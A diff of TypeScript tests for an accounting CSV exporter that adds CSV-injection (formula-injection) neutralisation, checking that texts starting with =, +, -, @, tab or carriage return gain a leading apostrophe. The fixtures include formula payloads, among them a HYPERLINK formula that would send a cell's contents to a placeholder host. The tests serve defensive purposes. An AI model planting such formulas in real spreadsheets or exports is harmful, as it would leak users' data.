@@ -1,5 +1,5 @@
 import { accountingCsv } from "../../../src/domain/statements/accountingCsv";
-import { csvDecimal, csvField } from "../../../src/domain/statements/csvFields";
+import { csvDecimal, csvInteger, csvText } from "../../../src/domain/statements/csvFields";
 import { statementsForAccounting } from "../../../src/domain/statements/statementsForAccounting";
 import { HEM, LYS, member, register, ROUBAIX } from "./fixtures";
 import { generate } from "./generations";
@@ -81,9 +81,67 @@ describe("accountingCsv", () => {
     expect(rest).toEqual([]);
   });
 
-  test("writes formula-like names as they are: the file is for import", () => {
-    const csv = accountingCsv(numbered([member({ name: "=HYPERLINK(1)" })]));
-    expect(parseCsv(csv.slice(1))[1]?.[1]).toBe("=HYPERLINK(1)");
+  // OWASP, CSV injection: a text starting with = + - @ tab or CR is prefixed with '.
+  test.each([
+    ["=", '=HYPERLINK("http://x.invalid/?"&A1;"Payer")'],
+    ["+", "+33 3 20 00 00 00"],
+    ["-", "-2+3"],
+    ["@", "@SUM(A1:A9)"],
+    ["a tab", "\t=1+1"],
+    ["a carriage return", "\r=1+1"],
+  ])("neutralises a member name starting with %s, and reads back to what was typed", (_, name) => {
+    const tricky = member({
+      name,
+      siret: "=1+1",
+      serviceCode: "@code",
+      engagementNumber: "-EJ",
+    });
+    const csv = accountingCsv(numbered([tricky]));
+    const [, row, ...rest] = parseCsv(csv.slice(1));
+    expect(rest).toEqual([]);
+    // Every text field that starts like a formula starts with the apostrophe in the file…
+    expect(row?.[1]).toBe(`'${name}`);
+    expect(row?.[2]).toBe("'=1+1");
+    expect(row?.[5]).toBe("'@code");
+    expect(row?.[6]).toBe("'-EJ");
+    // …the object starts with "Contribution", so it is left as it is…
+    expect(row?.[3]).toBe(`Contribution ENT 2025 - ${name}`);
+    // …and, apart from that leading apostrophe, the texts are what the user typed.
+    const typed = row?.map((field) => (/^'[=+\-@\t\r]/.test(field) ? field.slice(1) : field));
+    expect(typed).toEqual([
+      "2025-0001",
+      name,
+      "=1+1",
+      `Contribution ENT 2025 - ${name}`,
+      "130,00",
+      "@code",
+      "-EJ",
+    ]);
+    // No cell of the file, once read, starts with a formula character.
+    for (const field of row ?? []) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  test("writes a normal name and the number unchanged", () => {
+    const csv = accountingCsv(numbered([member({ name: "Ville de Hem" })]));
+    expect(csv.split("\r\n")[1]).toBe(
+      "2025-0001;Ville de Hem;;Contribution ENT 2025 - Ville de Hem;130,00;;"
+    );
+  });
+
+  test("writes a negative amount as it is: a number, never neutralised", () => {
+    const [statement] = numbered([member({ name: "Hem" })]);
+    if (statement === undefined) throw new Error("no statement");
+    // A negative total cannot come out of the schedules; build one to pin the export.
+    const negative = {
+      ...statement,
+      draft: {
+        ...statement.draft,
+        contribution: { ...statement.draft.contribution, totalCents: -5 },
+      },
+    };
+    const line = accountingCsv([negative]).split("\r\n")[1];
+    expect(line).toBe("2025-0001;Hem;;Contribution ENT 2025 - Hem;-0,05;;");
+    expect(line).not.toContain("'-0,05");
   });
 
   test("writes only the header when there is nothing to export", () => {
@@ -103,13 +161,43 @@ describe("csv fields", () => {
     expect(csvDecimal(cents)).toBe(written);
   });
 
-  test("leaves plain fields alone and quotes the others", () => {
-    expect(csvField("Hem")).toBe("Hem");
-    expect(csvField("")).toBe("");
-    expect(csvField("a;b")).toBe('"a;b"');
-    expect(csvField('a"b')).toBe('"a""b"');
-    expect(csvField("a\rb")).toBe('"a\rb"');
-    expect(csvField("a\nb")).toBe('"a\nb"');
+  test("csvText leaves plain texts alone and quotes the others", () => {
+    expect(csvText("Hem")).toBe("Hem");
+    expect(csvText("")).toBe("");
+    expect(csvText("2025-0001")).toBe("2025-0001");
+    expect(csvText("a;b")).toBe('"a;b"');
+    expect(csvText('a"b')).toBe('"a""b"');
+    expect(csvText("a\rb")).toBe('"a\rb"');
+    expect(csvText("a\nb")).toBe('"a\nb"');
+  });
+
+  test.each([
+    ["=1+1", "'=1+1"],
+    ["+1", "'+1"],
+    ["-1", "'-1"],
+    ["@A1", "'@A1"],
+    ["\tx", "'\tx"],
+    ["a=b", "a=b"],
+    ["Saint-Amand", "Saint-Amand"],
+    // OWASP leaves a leading space or a full-width sign alone; so does csvText.
+    [" =1+1", " =1+1"],
+    ["\uFF1D1+1", "\uFF1D1+1"],
+  ])("csvText(%j) is %j", (typed, written) => {
+    expect(csvText(typed)).toBe(written);
+  });
+
+  test("csvText both quotes and neutralises a text with ; and = (OWASP's example)", () => {
+    expect(csvText('=1+2";=1+2')).toBe('"\'=1+2"";=1+2"');
+    // A CR first is neutralised, then quoted because it holds a CR.
+    expect(csvText("\r=1")).toBe('"\'\r=1"');
+    expect(parseCsv(`${csvText('=1+2";=1+2')};x\r\n`)).toEqual([["'=1+2\";=1+2", "x"]]);
+  });
+
+  test("csvInteger writes whole numbers as they are and refuses anything else", () => {
+    expect(csvInteger(2025)).toBe("2025");
+    expect(csvInteger(-3)).toBe("-3");
+    expect(() => csvInteger(1.5)).toThrow(RangeError);
+    expect(() => csvInteger(Number.NaN)).toThrow(RangeError);
   });
 });
 
